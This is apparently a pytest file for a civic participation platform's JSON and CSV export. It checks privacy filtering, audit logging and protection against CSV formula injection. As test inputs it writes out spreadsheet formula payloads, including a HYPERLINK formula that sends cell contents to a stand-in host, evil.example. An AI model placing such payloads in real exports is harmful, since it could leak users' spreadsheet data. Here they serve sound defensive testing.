"""The participation document's open formats (JSON, CSV) from the page and the CLI."""
from __future__ import annotations

import csv
import io
import json
import re

import sqlalchemy as sa

from participation.audit.models import AuditEvent
from participation.contributions.models import Contribution
from participation.core.extensions import db
from participation.moderation.models import Disposition, TargetType
from participation.processes.models import Process

from .factories import csrf_token, login, make_organisation, make_user


def _world(app):
    """The demo, with one hidden contribution, one response and one resident's input."""
    from participation.accounts.models import User
    from participation.moderation.services import hide, save_response

    assert app.test_cli_runner().invoke(args=["demo"]).exit_code == 0
    with app.test_request_context():
        process = db.session.scalar(sa.select(Process).where(
            Process.slug == "economische-agenda-2026-2030"))
        moderator = db.session.scalar(sa.select(User).where(User.role == "moderator"))
        items = list(db.session.scalars(sa.select(Contribution).join(Contribution.round).where(
            Contribution.organisation_kind.is_not(None)).order_by(Contribution.id)))
        hide(process, TargetType.contribution, items[0], moderator, "Persoonsgegevens")
        save_response(process, TargetType.contribution, items[1], moderator,
                      disposition=Disposition.partly, body_md="We nemen dit deels mee.",
                      lineage_ids=[], publish=True)
        db.session.commit()
        # One hidden, one answered and more: the loops over the published ones check something.
        assert len(items) >= 3, len(items)
        return {"hidden": items[0].title, "answered": items[1].title,
                "answered_org": items[1].organisation_name,
                "published": [c.title for c in items[1:]]}


def test_public_json_and_csv_from_the_page(client, app):
    facts = _world(app)
    with app.app_context():
        make_user("staff@example.nl", role="staff", locale="en")
    login(client, "staff@example.nl")
    url = "/p/economische-agenda-2026-2030/export"
    page = client.get(url).get_data(as_text=True)
    response = client.post(url, data={"csrf_token": csrf_token(page), "format": "json",
                                      "language": "en",
                                      "version": "public"})
    assert response.status_code == 200
    assert "attachment" in response.headers["Content-Disposition"]
    document = json.loads(response.data)
    text = response.get_data(as_text=True)
    titles = [i["title"] for s in document["stakeholders"] for i in s["items"]]
    for title in facts["published"]:
        assert title in titles
    assert facts["hidden"] not in text
    assert not re.search(r"[\w.+-]+@[\w-]+\.[\w.]+", text), "an e-mail address is in the document"
    answered = next(i for s in document["stakeholders"] for i in s["items"]
                    if i["title"] == facts["answered"])
    assert answered["disposition"] == "partly" and "deels" in answered["response_md"]
    owner = next(s for s in document["stakeholders"]
                 if any(i["title"] == facts["answered"] for i in s["items"]))
    assert owner["name"] == facts["answered_org"]
    residents = [s["name"] for s in document["stakeholders"] if s["kind"] is None]
    assert residents and all(re.fullmatch(r"Resident \d+", n) for n in residents)
    assert "Henk Mulder" not in text and "Fatima" not in text
    names = [s["name"] for s in document["stakeholders"] if s["kind"]]
    assert names == sorted(names, key=str.casefold)

    response = client.post(url, data={"csrf_token": csrf_token(page), "format": "csv", "language": "en",
                                      "version": "public"})
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[0][:3] == ["stakeholder", "organisation_kind", "kind"]
    assert len(rows) - 1 == sum(len(s["items"]) for s in document["stakeholders"])
    with app.app_context():
        exports = db.session.scalars(sa.select(AuditEvent).where(AuditEvent.action == "export")
                                     .order_by(AuditEvent.id))
        assert [e.after["format"] for e in exports] == ["json", "csv"]


def test_internal_version_marks_hidden_items_and_cli(app, tmp_path):
    facts = _world(app)
    out = tmp_path / "intern.json"
    result = app.test_cli_runner().invoke(args=[
        "export", "economische-agenda-2026-2030", "--format", "json", "--output", str(out),
        "--internal"])
    assert result.exit_code == 0, result.output
    document = json.loads(out.read_text("utf-8"))
    hidden = [i for s in document["stakeholders"] for i in s["items"] if i["hidden"]]
    assert [i["title"] for i in hidden] == [facts["hidden"]]
    residents = [s["name"] for s in document["stakeholders"] if s["kind"] is None]
    assert all(n.startswith("Inwoner ") for n in residents)
    missing = app.test_cli_runner().invoke(args=["export", "bestaat-niet", "--format", "csv",
                                                 "--output", str(tmp_path / "x.csv")])
    assert missing.exit_code != 0 and "bestaat-niet" in missing.output


def test_csv_neutralises_formulas_and_keeps_special_characters(app, client):
    from .factories import make_contribution, make_process

    with app.app_context():
        process = make_process()
        org = make_organisation("=HYPERLINK(\"x\")", "business", "x")
        author = make_user(organisation=org)
        make_contribution(process, process.themes[0], author, title="<b> & 😀 مرحبا",
                          body="=1+1")
        db.session.commit()
        make_user("staff@example.nl", role="staff", locale="en")
    login(client, "staff@example.nl")
    page = client.get("/p/economie/export").get_data(as_text=True)
    response = client.post("/p/economie/export", data={"csrf_token": csrf_token(page),
                                                       "format": "csv", "version": "public",
                                                       "language": "en"})
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[1][0].startswith("'=") and rows[1][6] == "'=1+1"
    assert rows[1][5] == "<b> & 😀 مرحبا"
    empty = [n for n, cell in enumerate(rows[1]) if cell in ("", "'")]
    assert empty and all(rows[1][n] == "" for n in empty)  # an empty cell stays empty


def test_csv_has_no_formula_however_a_spreadsheet_splits_it(app, client):
    """Excel on Dutch Windows splits the lines on ";", not on the file's ",", and loses track
    of the quotes: a title ";=1+1;", a text "a;=HYPERLINK(...)" or a formula on a later line of
    a text must not start a cell there, nor for any reader splitting on ",", ";", tab or "|"."""
    from .factories import make_contribution, make_process

    link = '=HYPERLINK("https://evil.example/?"&A1;"Klik")'
    with app.app_context():
        process = make_process()
        author = make_user(organisation=make_organisation(";Bos|Bouw", "business", "x"))
        make_contribution(process, process.themes[0], author, title=";=1+1;",
                          body=f"a;{link}")
        make_contribution(process, process.themes[1], author, title="Kosten",
                          body=f"Kost € 10,- per maand;-)\n- een punt\n+ nog een\n{link}\n"
                               f'x,"@SUM(1)')
        db.session.commit()
        make_user("staff@example.nl", role="staff", locale="en")
    login(client, "staff@example.nl")
    page = client.get("/p/economie/export").get_data(as_text=True)
    files = []
    for _attempt in range(2):  # the same file every time
        response = client.post("/p/economie/export", data={
            "csrf_token": csrf_token(page), "format": "csv", "version": "public",
            "language": "en"})
        files.append(response.data.decode("utf-8-sig"))
    assert files[0] == files[1]
    text = files[0]
    for separator in (",", ";", "\t", "|"):
        cells = [cell for row in csv.reader(io.StringIO(text), delimiter=separator)
                 for cell in row]
        # A reader that ignores quotes altogether: split every line on the separator.
        pieces = [piece.lstrip('"') for line in text.splitlines()
                  for piece in line.split(separator)]
        for cell in cells + pieces:
            assert cell[:1] not in ("=", "+", "-", "@"), (separator, cell)
    # Read as written (","): every cell whole, the text changed only where a formula could start.
    by_title = {row["title"]: row for row in csv.DictReader(io.StringIO(text))}
    assert by_title["';'=1+1;"]["text"] == f"a;'{link}"
    assert by_title["';'=1+1;"]["stakeholder"] == "';Bos|Bouw"
    assert by_title["Kosten"]["text"] == (f"Kost € 10,'- per maand;'-)\n* een punt\n* nog een\n"
                                          f"'{link}\nx,'\"@SUM(1)")
    assert text.splitlines()[0].startswith('"stakeholder","organisation_kind",')


def test_participants_cannot_export(client, app):
    from .factories import make_process

    with app.app_context():
        make_process()
        make_user()
    login(client)
    assert client.get("/p/economie/export").status_code == 403
